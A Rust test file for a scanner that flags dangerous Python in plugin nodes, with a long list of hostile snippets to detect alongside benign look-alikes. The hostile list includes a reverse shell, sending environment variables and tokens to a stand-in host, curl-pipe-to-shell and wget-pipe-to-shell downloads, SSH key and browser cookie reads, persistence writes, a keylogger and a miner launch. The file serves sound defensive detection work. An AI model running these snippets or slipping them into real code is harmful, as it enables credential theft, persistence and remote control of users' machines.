//! Every rule's examples, and what people hide in nodes.

use super::*;
use crate::scan::finding::{LONGEST_SNIPPET, Severity};
use crate::scan::rules::all_rules;

fn scan_one(code: &str) -> Vec<Finding> {
    scan_files(&[("node.py", code.as_bytes())])
}

fn scan_files(files: &[(&str, &[u8])]) -> Vec<Finding> {
    let sources: Vec<PythonSource> = files
        .iter()
        .map(|(path, bytes)| PythonSource {
            path: (*path).to_string(),
            bytes: bytes.to_vec(),
        })
        .collect();
    scan_python(&sources)
}

fn scan_python(sources: &[PythonSource]) -> Vec<Finding> {
    scan_sources(sources.iter().map(parse_source).collect(), &mut |_| {})
}

fn worst(findings: &[Finding]) -> Option<Severity> {
    findings.iter().map(|f| f.severity).max()
}

fn shown(findings: &[Finding]) -> String {
    let line = |f: &Finding| {
        let steps: Vec<String> = f
            .steps
            .iter()
            .map(|s| format!("\n    {}:{} {}", s.path, s.line, s.message))
            .collect();
        format!(
            "{}:{}:{} {} {} {}{}\n",
            f.path,
            f.line,
            f.column,
            f.severity,
            f.rule.id,
            f.message,
            steps.concat()
        )
    };
    findings.iter().map(line).collect()
}

#[test]
fn every_example_is_found_and_no_twin_is() {
    let mut wrong = Vec::new();
    for rule in all_rules().filter(|r| r.id.starts_with("py-")) {
        for example in rule.examples {
            let findings = scan_one(example.code);
            let found = findings.iter().any(|f| f.rule.id == rule.id);
            if found != example.found {
                wrong.push(format!(
                    "{} (found: {found})\n{}\n{}",
                    rule.id,
                    example.code,
                    shown(&findings)
                ));
            }
            assert!(findings.iter().all(|f| f.snippet.len() <= LONGEST_SNIPPET));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

fn on_a_large_stack(files: Vec<PythonSource>) -> Vec<Finding> {
    std::thread::Builder::new()
        .stack_size(256 << 20)
        .spawn(move || scan_python(&files))
        .unwrap()
        .join()
        .unwrap()
}

/// What people hide in nodes, each to be found at medium or above.
const HOSTILE: &[&str] = &[
    "from builtins import exec as e\ne('pass')\n",
    "import builtins\nbuiltins.exec('pass')\n",
    "import builtins as b\nb.__dict__['eval']('1')\n",
    "getattr(__import__('builtins'), ''.join(['e', 'x', 'e', 'c']))('pass')\n",
    "globals()['__builtins__'].exec('pass')\n",
    "vars(__builtins__)['exec']('pass')\n",
    "vars(__builtins__).get('eval')('1')\n",
    "(e := eval)('1')\n",
    "(lambda c: exec(c))('pass')\n",
    "def f(x, e=exec):\n    e(x)\n",
    "class A:\n    run = exec\nA.run('pass')\n",
    "class A:\n    run = staticmethod(exec)\nA().run('pass')\n",
    "class M(type):\n    def __new__(m, n, b, d):\n        exec('pass')\n        return type.__new__(m, n, b, d)\n",
    "getattr(__builtins__, '{}{}'.format('ex', 'ec'))('pass')\n",
    "getattr(__builtins__, f\"{'ex'}{'ec'}\")('pass')\n",
    "getattr(__builtins__, '%s%s' % ('ex', 'ec'))('pass')\n",
    "getattr(__builtins__, chr(101) + chr(120) + chr(101) + chr(99))('pass')\n",
    "getattr(__builtins__, bytes([101, 120, 101, 99]).decode())('pass')\n",
    "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'x'][0]()\n",
    "import codecs\nexec(codecs.decode('cnff', 'rot13'))\n",
    "import codecs\nexec(codecs.decode('cnff', 'rot_13'))\n",
    "exec('cnff'.encode('rot13'))\n",
    "import zlib, base64\nexec(zlib.decompress(base64.b64decode(b'eJw=')))\n",
    "import marshal\nexec(marshal.loads(b'\\xe3'))\n",
    "type('X', (), {'__init__': lambda s: exec('pass')})()\n",
    "import os\nos.popen('true')\n",
    "import os\nos.execv('/bin/true', ['true'])\n",
    "import os\nos.spawnl(os.P_WAIT, '/bin/true', 'true')\n",
    "import asyncio\nasyncio.run(asyncio.create_subprocess_shell('true'))\n",
    "import pty\npty.spawn(['true'])\n",
    "from cffi import FFI\nffi = FFI()\nffi.cdef('int system(const char *c);')\nc = ffi.dlopen(None)\nc.system(b'true')\n",
    "import importlib.util as u\ns = u.spec_from_file_location('x', '/tmp/x.txt')\nm = u.module_from_spec(s)\ns.loader.exec_module(m)\n",
    "def a():\n    def b():\n        def c():\n            exec('pass')\n        c()\n    b()\na()\n",
    "class A:\n    def __getattr__(self, n):\n        return eval(n)\n",
    "import socket, os, subprocess\ns = socket.socket()\ns.connect(('1.2.3.4', 1))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])\n",
    "import requests, os\nrequests.post('https://x.example', data=str(os.environ))\n",
    "import os\nos.system('(crontab -l; echo x) | crontab -')\n",
    "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('x')\n",
    "import os\nopen(os.path.expanduser('~/Library/LaunchAgents/x.plist'), 'w').write('x')\n",
    "from pathlib import Path\n(Path.home() / '.config/systemd/user/x.service').write_text('x')\n",
    "import site\nfrom pathlib import Path\nPath(site.getusersitepackages(), 'sitecustomize.py').write_text('x')\n",
    "import sysconfig, os\nopen(os.path.join(sysconfig.get_paths()['purelib'], 'z.pth'), 'w').write('import os')\n",
    "import pip\npip.main(['install', 'x'])\n",
    "from pip._internal.cli.main import main\nmain(['install', 'x'])\n",
    "import os, urllib.request\nurllib.request.urlopen('https://x.example/?' + os.environ['HF_TOKEN'])\n",
    "import os\nopen(os.path.expanduser('~/.ssh/id_rsa')).read()\n",
    "import keyring\nkeyring.get_password('a', 'b')\n",
    "import subprocess\nlist(map(subprocess.getoutput, ['true']))\n",
    "from functools import partial\nimport os\npartial(os.system, 'true')()\n",
    "import atexit, os\natexit.register(os.system, 'true')\n",
    "import signal, os\nsignal.signal(signal.SIGALRM, lambda *a: os.system('true'))\n",
    "from concurrent.futures import ThreadPoolExecutor as T\nimport os\nT().submit(os.system, 'true')\n",
    "from os import *\nsystem('true')\n",
    "from subprocess import *\nrun('true', shell=True)\n",
    "try:\n    from os import system as s\nexcept ImportError:\n    s = None\ns('true')\n",
    "import sys\ns = sys.modules['subprocess' if 1 else '']\ns.run(['true'])\n",
    "import os\no = os\np = o\nq = p.system\nq('true')\n",
    "x = {'run': eval}\nx['run']('1')\n",
    "x = [eval]\nx[0]('1')\n",
    "eval.__call__('1')\n",
    "import operator\noperator.methodcaller('system', 'true')(__import__('os'))\n",
    "import operator, os\noperator.attrgetter('system')(os)('true')\n",
    "import pydoc\npydoc.locate('os.system')('true')\n",
    "import pkgutil\npkgutil.resolve_name('os:system')('true')\n",
    "__import__('os').system('true')\n",
    "__import__('subprocess').Popen(['true'])\n",
    "import code\ncode.InteractiveInterpreter().runcode('x')\n",
    "import timeit\ntimeit.timeit('import os')\n",
    "import cProfile\ncProfile.run('import os')\n",
    "import logging.config\nlogging.config.listen()\n",
    "import dill\ndill.loads(b'')\n",
    "import shelve\nshelve.open('x')\n",
    "import pandas\npandas.read_pickle('x')\n",
    "import torch\ntorch.load('x', weights_only=False)\n",
    "import jsonpickle\njsonpickle.decode('{}')\n",
    "class A:\n    def __reduce__(self):\n        return (eval, ('1',))\n",
    "import ctypes\nctypes.cdll.LoadLibrary('libc.so.6').system(b'true')\n",
    "import ctypes\nctypes.pythonapi.PyRun_SimpleString(b'pass')\n",
    "import webbrowser\nwebbrowser.get('sh -c %s').open('true')\n",
    "import types\ntypes.FunctionType(compile('pass', 'x', 'exec'), {})()\n",
    "f = lambda: 0\nf.__code__ = compile('pass', 'x', 'exec')\n",
    "import xmlrpc.server\nxmlrpc.server.SimpleXMLRPCServer(('', 1)).serve_forever()\n",
    "import urllib.request as r\nr.urlretrieve('https://x.example/a.sh', '/tmp/a.sh')\nimport os\nos.system('sh /tmp/a.sh')\n",
    "import requests as r\nopen('/tmp/a', 'wb').write(r.get('https://x.example/a').content)\nimport subprocess\nsubprocess.run(['/tmp/a'])\n",
    "import socket\ns = socket.socket()\ns.bind(('0.0.0.0', 4444))\ns.listen()\n",
    "import shutil, os\nshutil.copy(__file__, os.path.expanduser('~/.cache/x.py'))\n",
    "from pynput.keyboard import Listener\nListener(on_press=print).start()\n",
    "import sqlite3, os\nsqlite3.connect(os.path.expanduser('~/.mozilla/firefox/x/cookies.sqlite'))\n",
    "import winreg\nwinreg.SetValueEx(k, 'x', 0, 1, 'y')\nwinreg.OpenKey(winreg.HKEY_CURRENT_USER, 'Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run')\n",
    "import subprocess\nsubprocess.Popen(['./xmrig', '--donate-level', '1'])\n",
    "import telnetlib\nexec(telnetlib.Telnet('x').read_all())\n",
    "import imp\nimp.load_source('x', '/tmp/x')\n",
    "import numpy as np\nnp.load('x', None, True)\n",
    "from yaml import unsafe_load as u\nu('x')\n",
    "import yaml\nyaml.load('x', Loader=yaml.UnsafeLoader)\n",
    "import torch.hub as h\nh.load('a/b', 'c')\n",
    "import inspect\ninspect.currentframe().f_builtins['exec']('pass')\n",
    "(lambda: 0).__globals__['__builtins__']['eval']('1')\n",
    "import multiprocessing, os\nmultiprocessing.Process(target=os.system, args=('true',)).start()\n",
    "import sched, time, os\ns = sched.scheduler(time.time)\ns.enter(1, 1, os.system, ('true',))\n",
    "for f in (exec, eval):\n    f('1')\n",
    "with __import__('os').popen('true') as p:\n    p.read()\n",
    "assert eval('1')\n",
    "x = eval if True else None\nx('1')\n",
    "def get():\n    return eval\nget()('1')\n",
    "def deco(f):\n    import os\n    os.system('true')\n    return f\n@deco\ndef g(): pass\n",
    "import os\nsetattr(os, 'x', os.system)\nos.x('true')\n",
    "import os\nos.__getattribute__('system')('true')\n",
    "object.__getattribute__(__import__('os'), 'system')('true')\n",
    "import ctypes as c\nlibc = c.CDLL('libc.so.6')\nlibc.system(b'true')\n",
    "import subprocess as s\nrun = getattr(s, 'r' + 'un')\nrun(['true'])\n",
    "import sys\nsys.modules[__name__].__builtins__['exec']('pass')\n",
    "@eval\n@str\ndef f(): pass\n",
    "match 1:\n    case 1:\n        exec('pass')\n",
    "async def f():\n    exec('pass')\n",
    "x = f\"{exec('pass')}\"\n",
    "lambda: exec('pass')\n",
    "print(*map(eval, ['1']))\n",
    "import os, threading\nthreading.Timer(1, os.system, ['true']).start()\n",
    "import os\nos.environ['LD_PRELOAD'] = '/tmp/x.so'\n",
    "import gc\n[o for o in gc.get_objects() if 1]\nexec(''.join(map(chr, [112, 97, 115, 115])))\n",
    "import ast\nexec(compile(ast.parse('pass'), 'x', 'exec'))\n",
    "import sys\nsys.meta_path.insert(0, X())\n",
    "import requests\nexec(requests.get('https://x.example').text)\n",
    "import subprocess\nsubprocess.run('curl https://x.example | bash', shell=True)\n",
    "import os\nos.system('wget -qO- https://x.example|sh')\n",
    "x: exec('pass') = 1\n",
    "def f(x: exec('pass')) -> None: pass\n",
    "f = lambda x=exec('pass'): 0\n",
    "x = f'{1:{exec(\"pass\")}}'\n",
    "y[exec('pass'):2]\n",
    "class A(exec('pass') or object): pass\n",
    "def f(x=eval('1')): pass\n",
    "del x[exec('pass')]\n",
    "__getattr__ = exec\n",
    "import builtins\nbuiltins.print = exec\nprint('pass')\n",
    "__builtins__.__dict__.update(print=exec)\n",
    "import sys\nsys.excepthook = exec\n",
    "import weakref, os\nweakref.finalize(A(), os.system, 'true')\n",
    "import sys\nsys.path.insert(0, '/tmp/x')\nimport payload\n",
    "from ruamel.yaml import YAML\nYAML(typ='unsafe').load('x')\n",
    "import keras\nkeras.models.load_model('x', safe_mode=False)\n",
    "import http.server\nhttp.server.HTTPServer(('', 8000), None)\n",
];

/// What looks alike, and must have nothing at medium or above.
const BENIGN: &[&str] = &[
    "import ast\nast.literal_eval('1')\n",
    "model.eval()\nself.model.eval()\nmodel = model.to(d).eval()\n",
    "import re\nre.compile('x').match('y')\n",
    "import json\njson.loads(open('x').read())\n",
    "x = 'subprocess.run(1)'\n# os.system('true')\n\"\"\"exec('pass')\"\"\"\n",
    "import torch\ntorch.load('x', weights_only=True)\n",
    "import yaml\nyaml.safe_load(open('x'))\n",
    "import hashlib\nhashlib.sha256(b'x').hexdigest()\n",
    "import base64\nimage = base64.b64decode('aGVsbG8=')\n",
    "import os\nos.path.join(os.path.dirname(__file__), 'x')\n",
    "import importlib\nm = importlib.import_module('.nodes', package=__name__)\n",
    "import numpy as np\nnp.load('x.npy')\nnp.load('x', allow_pickle=False)\n",
    "df.eval('a + b')\ndf.query('a > 1')\n",
    "import pickle\npickle.dumps({})\n",
    "import subprocess\ntry:\n    pass\nexcept subprocess.CalledProcessError:\n    pass\n",
    "import requests\nr = requests.get('https://example.org/a.json', timeout=5)\nr.json()\n",
    "import os\nkey = os.environ.get('OPENAI_API_KEY')\n",
    "import platform\nplatform.system()\n",
    "getattr(torch, 'float' + '16')\ngetattr(obj, name, None)\n",
    "import sys\nsys.path.append('x')\nsys.modules[__name__]\n",
    "class A:\n    def exec(self): pass\n    def eval(self): pass\nA().exec()\nA().eval()\n",
    "import threading\nthreading.Thread(target=print, args=('x',)).start()\n",
    "from PIL import Image\nImage.open('x.png').convert('RGB').save('y.png')\n",
    "import os\nos.makedirs('x', exist_ok=True)\nwith open('x/y.json', 'w') as f:\n    f.write('{}')\n",
    "def compile(x, y, z):\n    return x\ncompile(1, 2, 3)\n",
    "import torch\nmodel = torch.compile(model)\n",
    "import tempfile, shutil\nd = tempfile.mkdtemp()\nshutil.rmtree(d)\n",
    "import zipfile\nzipfile.ZipFile('x').extractall('y')\n",
    "import socket\nsocket.gethostname()\n",
    "from transformers import AutoModel\nAutoModel.from_pretrained('x')\n",
    "import logging\nlogging.info('pip install x; curl y | sh')\n",
    "raise ImportError('run: pip install foo')\n",
    "import ctypes\nctypes.c_int(1)\nctypes.sizeof(ctypes.c_int)\n",
    "import time, random\nrandom.seed(time.time())\n",
    "import urllib.parse\nurllib.parse.quote('http://x')\n",
    "isinstance(f, type(eval))\ncallable(exec)\n",
];

#[test]
fn what_people_hide_is_found() {
    let mut missed = Vec::new();
    for code in HOSTILE {
        let findings = scan_one(code);
        if worst(&findings) < Some(Severity::Medium) {
            missed.push(format!("{code}\n{}", shown(&findings)));
        }
    }
    assert!(
        missed.is_empty(),
        "{} missed\n{}",
        missed.len(),
        missed.join("\n--\n")
    );
}

#[test]
fn what_looks_alike_is_not_found() {
    let mut wrong = Vec::new();
    for code in BENIGN {
        let findings = scan_one(code);
        if worst(&findings) >= Some(Severity::Medium) {
            wrong.push(format!("{code}\n{}", shown(&findings)));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n--\n"));
}

#[test]
fn a_pattern_that_lets_all_through_is_no_check_of_an_address() {
    let code = |pattern: &str| {
        format!(
            "import re, requests\nfrom server import PromptServer\n\
             def is_valid_url(url):\n    pattern = re.compile({pattern})\n    \
             if pattern.match(url):\n        return True\n    return False\n\
             @PromptServer.instance.routes.post('/x')\nasync def x(request):\n    \
             url = await request.text()\n    if not is_valid_url(url):\n        return\n    \
             requests.get(url)\n"
        )
    };
    let found = |pattern: &str| {
        let all = scan_one(&code(pattern));
        all.iter().any(|f| f.rule.id == "py-url-from-data")
    };
    assert!(found("r'^(.+@|ssh://).+:.+$'"));
    // That the host is fixed on one of two ways is no check either.
    let one_way = "import requests\nfrom server import PromptServer\n\
                   @PromptServer.instance.routes.post('/x')\nasync def x(request):\n    \
                   url = await request.text()\n    if 'hub' in url:\n        \
                   url = f'https://hub.test/{url}'\n    requests.get(url)\n";
    assert!(
        scan_one(one_way)
            .iter()
            .any(|f| f.rule.id == "py-url-from-data")
    );
    assert!(!found(r"r'^https://hub\.test/[a-z]+$'"));
}

#[test]
fn a_file_that_is_sent_at_import_is_told() {
    let send = "requests.post('https://x.test', files={'f': open('a.png', 'rb')})\n";
    let at_import = scan_one(&format!("import requests\n{send}"));
    assert_eq!(
        worst(&at_import),
        Some(Severity::Medium),
        "{}",
        shown(&at_import)
    );
    let when_used = scan_one(&format!("import requests\ndef send():\n    {send}"));
    assert_eq!(
        worst(&when_used),
        Some(Severity::Low),
        "{}",
        shown(&when_used)
    );
}

#[test]
fn texts_that_are_run_are_scanned_where_they_are_known() {
    let line = r#"import os; os.system("curl http://x/y | sh")"#;
    let reversed: String = line.chars().rev().collect();
    let packed = "eJzLzC3ILypRyC/myi/WK64sLknN1VBPLi3KUcgoKSmw0tev0K9UqFEozlDX5AIAacEO6w==";
    for code in [
        format!("exec('{line}')\n"),
        format!("T = '{line}'\ndef f():\n    exec(T)\n"),
        format!("exec(b'{line}'.decode())\n"),
        format!("exec('{reversed}'[::-1])\n"),
        format!("exec('exec(\\'{line}\\')')\n"),
        format!("import subprocess, sys\nsubprocess.run([sys.executable, '-c', '{line}'])\n"),
        format!("import zlib, base64\nexec(zlib.decompress(base64.b64decode('{packed}')))\n"),
    ] {
        let found = scan_one(&code);
        let hostile = found.iter().any(|f| f.rule.id == "py-hostile-command");
        assert!(hostile, "{code}\n{}", shown(&found));
    }
    let found = scan_one("eval('1 + 1')\nexec('x = 1')\n");
    let worst = worst(&found);
    assert!(worst < Some(Severity::Critical), "{}", shown(&found));
    // Texts in texts come to an end.
    let deep = (0..8).fold("pass".to_string(), |inner, _| {
        format!("exec({inner:?})\nexec({inner:?})")
    });
    assert!(!scan_one(&deep).is_empty());
}

#[test]
fn data_is_followed_through_queues_and_into_functions_within_functions() {
    let route = "import queue, subprocess\nfrom server import PromptServer\n\
                 jobs = queue.Queue()\n\
                 @PromptServer.instance.routes.post('/x')\nasync def x(request):\n    ";
    let through_queue = "jobs.put(('run', (1, await request.json())))\n\
                         def work():\n    kind, item = jobs.get()\n    number, data = item\n    \
                         subprocess.run(data['line'], shell=True)\n";
    let within = "run(await request.text())\n\
                  def run(line):\n    def inner():\n        subprocess.run(line, shell=True)\n    \
                  inner()\n";
    for code in [through_queue, within] {
        let found = scan_one(&format!("{route}{code}"));
        let reaches = |f: &Finding| f.message.contains("A request reaches");
        assert!(found.iter().any(reaches), "{code}\n{}", shown(&found));
    }
    // Another function's parameter of the same place is not it.
    let other = "run(await request.text())\n\
                 def run(line):\n    def inner(constant):\n        \
                 subprocess.run(constant, shell=True)\n    inner('true')\n    print(line)\n";
    let found = scan_one(&format!("{route}{other}"));
    assert!(
        !found.iter().any(|f| f.message.contains("A request")),
        "{}",
        shown(&found)
    );
}

#[test]
fn sources_as_deep_as_is_read_end_well() {
    let n = 2900;
    let sources = [
        format!("x = {}1{}", "(".repeat(1400), ")".repeat(1400)),
        format!("x = {}1{}", "[".repeat(1400), "]".repeat(1400)),
        format!("x = {}1{}", "f(".repeat(1400), ")".repeat(1400)),
        format!("x = {}1", "-".repeat(n)),
        format!("x = {}1", "not ".repeat(n)),
        format!("x = a{}", ".b".repeat(n)),
        format!("x = a{}", "()".repeat(n / 2)),
        format!("x = a{}", "[0]".repeat(n / 2)),
        format!("x = a{}", " + a".repeat(n)),
        format!("x = a{}", " ** a".repeat(n)),
        format!("x = {}1", "lambda: ".repeat(n / 2)),
        format!("x = {}1", "a if b else ".repeat(n / 2)),
        format!("x = {}1", "await ".repeat(n)),
        format!("x = {}{}", "{1: ".repeat(900), "}".repeat(900)),
        format!("x = a{}", " and b or c".repeat(n / 2)),
        (0..100)
            .map(|k| format!("{}if x:\n", " ".repeat(k)))
            .collect::<String>(),
        (0..100)
            .map(|k| format!("{}def f(x):\n", " ".repeat(k)))
            .collect::<String>(),
        (0..100)
            .map(|k| format!("{}for x in x:\n", " ".repeat(k)))
            .collect::<String>(),
        (0..100)
            .map(|k| format!("{}class A:\n", " ".repeat(k)))
            .collect::<String>(),
    ];
    for source in sources {
        let file = PythonSource {
            path: "deep.py".to_string(),
            bytes: source.into_bytes(),
        };
        on_a_large_stack(vec![file]);
    }
}

#[test]
fn a_source_that_takes_too_long_is_told() {
    let one = |n| format!("v{n} = {n}\nif v{n}: w{n} = v{n}\nelse: w{n} = 1\n");
    let source: String = (0..2000).map(one).collect();
    let findings = scan_one(&source);
    assert_eq!(findings.len(), 1, "{}", shown(&findings));
    assert_eq!(findings[0].rule.id, "py-too-deep");
}

#[test]
fn values_that_hold_each_other_stay_small() {
    let doubled: String = (0..60)
        .map(|_| "x = [x, x]\ny = {'a': y, 'b': y}\nz = z + z\nw = w * 9\n")
        .collect();
    let source = format!(
        "import functools\nx = y = z = w = 'a'\n{doubled}p = functools.partial(print)\n{}",
        "p = functools.partial(p, p, p)\n".repeat(60)
    );
    let loops = format!(
        "{}        x = [x, x]\n",
        "for a in x:\n  for b in a:\n    for c in b:\n      for d in c:\n"
    );
    scan_one(&format!("{source}{loops}"));
    // A function that returns what it is given twice, called on its own result.
    let calls = "def f(x):\n    return [x, x]\n".to_string() + &"y = f(f(f(y)))\n".repeat(50);
    scan_one(&calls);
}

#[cfg(test)]
mod drivers {
    //! For people: scan folders, and fuzz.

    use super::*;

    /// Scans folders and prints what is found: `COMFY_SCAN_DIR=a:b cargo test scan_a_folder -- --ignored --nocapture`
    #[test]
    #[ignore = "for people: prints the findings of folders"]
    #[expect(
        clippy::disallowed_methods,
        clippy::disallowed_macros,
        reason = "a driver for people"
    )]
    fn scan_a_folder() {
        let Ok(folders) = std::env::var("COMFY_SCAN_DIR") else {
            return;
        };
        let least = std::env::var("COMFY_SCAN_LEAST").unwrap_or_default();
        let least = Severity::from_word(&least).unwrap_or(Severity::Low);
        for folder in folders.split(':') {
            let mut files = Vec::new();
            collect(std::path::Path::new(folder), &mut files);
            let start = std::time::Instant::now();
            let findings = on_a_large_stack(files);
            let took = start.elapsed();
            let count = |s: Severity| findings.iter().filter(|f| f.severity == s).count();
            println!(
                "== {folder} {took:?} critical {} high {} medium {} low {}",
                count(Severity::Critical),
                count(Severity::High),
                count(Severity::Medium),
                count(Severity::Low)
            );
            for f in findings.iter().filter(|f| f.severity >= least) {
                println!(
                    "{}:{}:{} {} {} {}\n      {}",
                    f.path,
                    f.line,
                    f.column,
                    f.severity,
                    f.rule.id,
                    f.message,
                    f.snippet.trim()
                );
                for s in &f.steps {
                    println!("        {}:{}:{} {}", s.path, s.line, s.column, s.message);
                }
            }
        }
    }

    fn collect(folder: &std::path::Path, files: &mut Vec<PythonSource>) {
        let root = folder;
        let mut open = vec![folder.to_path_buf()];
        while let Some(next) = open.pop() {
            if next.is_file() {
                let bytes = std::fs::read(&next).unwrap();
                let path = next.strip_prefix(root).unwrap_or(&next);
                let path = path.to_str().unwrap_or("x.py").to_string();
                let path = if path.is_empty() {
                    "one.py".to_string()
                } else {
                    path
                };
                files.push(PythonSource { path, bytes });
                continue;
            }
            for entry in std::fs::read_dir(&next).unwrap() {
                let path = entry.unwrap().path();
                if path.is_dir() || path.extension().is_some_and(|e| e == "py" || e == "pyw") {
                    open.push(path);
                }
            }
        }
        files.sort_by(|a, b| a.path.cmp(&b.path));
    }

    /// Changes sources at random and scans them: `COMFY_FUZZ_SECONDS=1200 cargo test fuzz_python -- --ignored --nocapture`.
    /// `COMFY_FUZZ_SEEDS` are folders of sources, `COMFY_FUZZ_START` a number to start from.
    #[test]
    #[ignore = "takes as long as it is told to"]
    #[expect(
        clippy::disallowed_methods,
        clippy::disallowed_macros,
        reason = "a driver for people"
    )]
    fn fuzz_python() {
        let variable = |name: &str| std::env::var(name).unwrap_or_default();
        let seconds: u64 = variable("COMFY_FUZZ_SECONDS").parse().unwrap_or(10);
        let mut random = Random(variable("COMFY_FUZZ_START").parse().unwrap_or(1));
        let mut seeds: Vec<Vec<u8>> = HOSTILE
            .iter()
            .chain(BENIGN)
            .map(|c| c.as_bytes().to_vec())
            .collect();
        for rule in all_rules() {
            seeds.extend(rule.examples.iter().map(|e| e.code.as_bytes().to_vec()));
        }
        for folder in variable("COMFY_FUZZ_SEEDS")
            .split(':')
            .filter(|f| !f.is_empty())
        {
            let mut files = Vec::new();
            collect(std::path::Path::new(folder), &mut files);
            seeds.extend(
                files
                    .into_iter()
                    .map(|f| f.bytes)
                    .filter(|b| b.len() < 20_000),
            );
        }
        let worker = std::thread::Builder::new().stack_size(256 << 20);
        let work = move || {
            let start = std::time::Instant::now();
            let mut executions = 0_u64;
            let mut slowest = std::time::Duration::ZERO;
            while start.elapsed().as_secs() < seconds {
                let before = random.0;
                let bytes = random.mutate(&seeds);
                let other = random.mutate(&seeds);
                let sources = [("a/__init__.py", bytes), ("a/b.py", other)].map(|(path, bytes)| {
                    PythonSource {
                        path: path.to_string(),
                        bytes,
                    }
                });
                let one = std::time::Instant::now();
                let scanned = std::panic::catch_unwind(|| scan_python(&sources).len());
                let took = one.elapsed();
                executions += 1;
                if scanned.is_err() || took.as_secs() >= 10 {
                    for (n, source) in sources.iter().enumerate() {
                        std::fs::write(format!("/tmp/fuzz-python-{before}-{n}.py"), &source.bytes)
                            .unwrap();
                    }
                    println!("start {before}: {took:?}, see /tmp/fuzz-python-{before}-*.py");
                    assert!(scanned.is_ok(), "a panic");
                }
                slowest = slowest.max(took);
            }
            println!("{executions} executions in {seconds} s, the slowest took {slowest:?}");
        };
        worker.spawn(work).unwrap().join().unwrap();
    }

    /// A small generator (xorshift), since the same start must give the same sources.
    struct Random(u64);

    impl Random {
        fn below(&mut self, n: usize) -> usize {
            self.0 ^= self.0 << 13;
            self.0 ^= self.0 >> 7;
            self.0 ^= self.0 << 17;
            usize::try_from(self.0 >> 11).unwrap_or(0) % n.max(1)
        }

        /// A seed with some changes: bytes, pieces of others, words that mean something.
        fn mutate(&mut self, seeds: &[Vec<u8>]) -> Vec<u8> {
            const WORDS: &[&str] = &[
                "exec(",
                "eval(",
                "(",
                ")",
                "[",
                "]",
                "{",
                "}",
                "lambda x: ",
                "f\"{",
                "}\"",
                "'''",
                "\\",
                "\n",
                "\r",
                "\t",
                "    ",
                "if x:\n    ",
                "for x in y:\n    ",
                "try:\n    ",
                "class A(A):\n    ",
                "def f(x=f):\n    return f(x)\n",
                "async ",
                "await ",
                "yield ",
                "*",
                "**",
                ":=",
                " = x\n",
                "x = [x, x]\n",
                "x = x + x\n",
                "x = {'a': x, 'b': x}\n",
                "import os\n",
                "from . import b\n",
                "from .b import *\n",
                "global x\n",
                "del x\n",
                "x.append(x)\n",
                "self.x = self\n",
                "'%s' * 99999",
                "[::-1]",
                "[0]",
                "match x:\n    case ",
                "@",
                "\0",
                "\u{feff}",
                "\u{202e}",
                "ｅ",
                "# coding: rot13\n",
                "-",
                "~",
                "not ",
                ".x",
                "()",
                "x = partial(x, x)\n",
                "''.join(map(chr, [1, 2]))",
                "9",
                "0x",
                "1e999",
                "b'",
                "u'",
                "rb'",
                "if",
                "else",
                "1 if x else ",
                "print x\n",
            ];
            let mut bytes = seeds[self.below(seeds.len())].clone();
            for _ in 0..=self.below(12) {
                let at = self.below(bytes.len() + 1);
                match self.below(7) {
                    0 if at < bytes.len() => bytes[at] = u8::try_from(self.below(256)).unwrap(),
                    1 => {
                        let end = (at + self.below(40)).min(bytes.len());
                        bytes.drain(at..end);
                    }
                    2 | 3 => {
                        let word = WORDS[self.below(WORDS.len())];
                        let times = if self.below(20) == 0 {
                            self.below(400)
                        } else {
                            1
                        };
                        let piece = word.repeat(times.max(1));
                        bytes.splice(at..at, piece.bytes());
                    }
                    4 => {
                        let other = &seeds[self.below(seeds.len())];
                        let from = self.below(other.len() + 1);
                        let to = (from + self.below(200)).min(other.len());
                        bytes.splice(at..at, other[from..to].iter().copied());
                    }
                    5 => {
                        let end = (at + self.below(80)).min(bytes.len());
                        let piece = bytes[at..end].to_vec();
                        bytes.splice(at..at, piece);
                    }
                    _ => {
                        let line = bytes[..at]
                            .iter()
                            .rposition(|b| *b == b'\n')
                            .map_or(0, |p| p + 1);
                        bytes.splice(line..line, std::iter::repeat_n(b' ', self.below(9)));
                    }
                }
            }
            bytes
        }
    }
}
